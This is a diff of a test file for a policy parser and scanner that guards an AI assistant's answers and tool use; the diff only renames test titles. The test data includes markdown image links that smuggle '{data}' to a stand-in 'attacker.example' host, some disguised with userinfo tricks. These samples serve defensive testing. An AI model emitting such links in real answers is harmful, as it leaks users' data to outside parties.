@@ -40,13 +40,13 @@ describe("parsing", () => {
     ["  decode:", "\tdecode:", "10:1 A tab stands at the beginning of the line: indent with spaces."],
     ["exfiltration-link]", "exfiltration-link", "20:3 "],
     ["input:", "---\ninput:", "9:1 A second file begins here (---): a policy is one."],
-  ])("%j replaced by %j is named with its place and the way out", (from, to, expected) => {
+  ])("%j replaced by %j is an error with position and advice", (from, to, expected) => {
     const parsed = readPolicy(changed(from, to));
     const [first] = "errors" in parsed ? parsed.errors : [];
     expect(`${first?.line}:${first?.column} ${first?.message}`).toContain(expected);
   });
 
-  it("names all that is wrong, from top to bottom", () => {
+  it("reports all errors, from top to bottom", () => {
     const parsed = readPolicy("mode: on\napplication: A b\ninput: { block: [x, y] }\n");
     expect("errors" in parsed && parsed.errors.map(({ line }) => line)).toEqual([1, 2, 3, 3]);
   });
@@ -65,7 +65,7 @@ describe("parsing", () => {
       `a: &a [x, x]\n${["b", "c", "d", "e", "f", "g"].map((key) => `${key}: &${key} [${"*a, ".repeat(9)}]`).join("\n")}\nh: [${"*b, *c, *d, *e, *f, *g, ".repeat(9)}]`,
       "write it out",
     ],
-  ])("%s is no policy", (_what, text, words) => {
+  ])("rejects %s", (_what, text, words) => {
     const parsed = readPolicy(text);
     expect("errors" in parsed && parsed.errors[0]?.message).toContain(words);
   });
@@ -81,7 +81,7 @@ describe("parsing", () => {
     ["quotes", "", () => '"'],
     ["lines of a text", "a: |\n ", () => "\t\n"],
     ["tools", "application: a\nmode: enforce\ntools:", (at) => `\n  t${at}: allow`],
-  ])("%s without end are refused before they are parsed", (_what, start, piece) => {
+  ])("rejects endless %s before parsing", (_what, start, piece) => {
     let text = start;
     for (let at = 0; text.length < POLICY_MAX_LENGTH; at++) text += piece(at);
     expect(readPolicy(text.slice(0, POLICY_MAX_LENGTH))).toEqual({
@@ -89,18 +89,18 @@ describe("parsing", () => {
     });
   });
 
-  it("has room for 300 tools, a line each", () => {
+  it("accepts 300 tools, one per line", () => {
     const tools = Array.from({ length: 300 }, (_, at) => `  orders.action-${at}: allow`);
     expect(policyOf("tools:", ...tools).toolAction?.("orders.action-299")).toBe("allow");
   });
 
-  it("repeats nothing of a policy in the log", () => {
+  it("logs nothing of a policy", () => {
     const warn = vi.spyOn(process, "emitWarning");
     readPolicy("{ [secret]: a }");
     expect(warn).not.toHaveBeenCalled();
   });
 
-  it("never throws, and names places that exist", { timeout: 60_000 }, () => {
+  it("never throws, and reports positions within the file", { timeout: 60_000 }, () => {
     const piece = fc.oneof(
       fc.string({ unit: "binary", maxLength: 10 }),
       fc.constantFrom(
@@ -171,11 +171,11 @@ describe("a policy decides", () => {
     ["![a](https://help.example.com@attacker.example/a.png)", "block"],
     ["![a](https://help.example.com:x@attacker.example/a.png)", "block"],
     [`${"![a](https://help.example.com/?d={data}) ".repeat(9)}[b](https://attacker.example/?d={data})`, "block"],
-  ])("where an answer may load from: %s", (answer, expected) => {
+  ])("applies the allowed hosts to an answer: %s", (answer, expected) => {
     expect(verdict("assistant", answer, LINKS)).toBe(expected);
   });
 
-  it("judges an address by what it carries if it names no hosts", () => {
+  it("judges a URL by the data it carries if no hosts are listed", () => {
     const lines = "output: { block: [exfiltration-link] }";
     expect(verdict("assistant", "![a](https://elsewhere.example/a.png)", lines)).toBe("allow");
     expect(verdict("assistant", "![a](https://elsewhere.example/?d={data})", lines)).toBe("block");
@@ -186,20 +186,20 @@ describe("a policy decides", () => {
     ["mail.send", "hold"],
     ["shell.run", "block"],
     ["constructor", "block"],
-  ])("what is done about the tool %s: %s", (tool, action) => {
+  ])("action on the tool %s: %s", (tool, action) => {
     expect(compiled(SAMPLE).toolAction?.(tool)).toBe(action);
   });
 
-  it("holds a tool that no line is for", () => {
+  it("holds an unlisted tool by default", () => {
     expect(policyOf("tools: { orders.read: allow }").toolAction?.("mail.send")).toBe("hold");
   });
 
-  it("says what would have been, in observe mode", () => {
+  it("returns the verdict in observe mode, too", () => {
     const result = scanConversation([{ role: "user", text: OVERRIDE }], { policy: compiled(SAMPLE) });
     expect(result).toMatchObject({ mode: "observe", verdict: "block" });
   });
 
-  it("is found nowhere by a text that is scanned without one", () => {
+  it("does not affect a scan without a policy", () => {
     expect(scan("![a](https://elsewhere.example/a.png)", { direction: "output" }).verdict).toBe("allow");
   });
 });
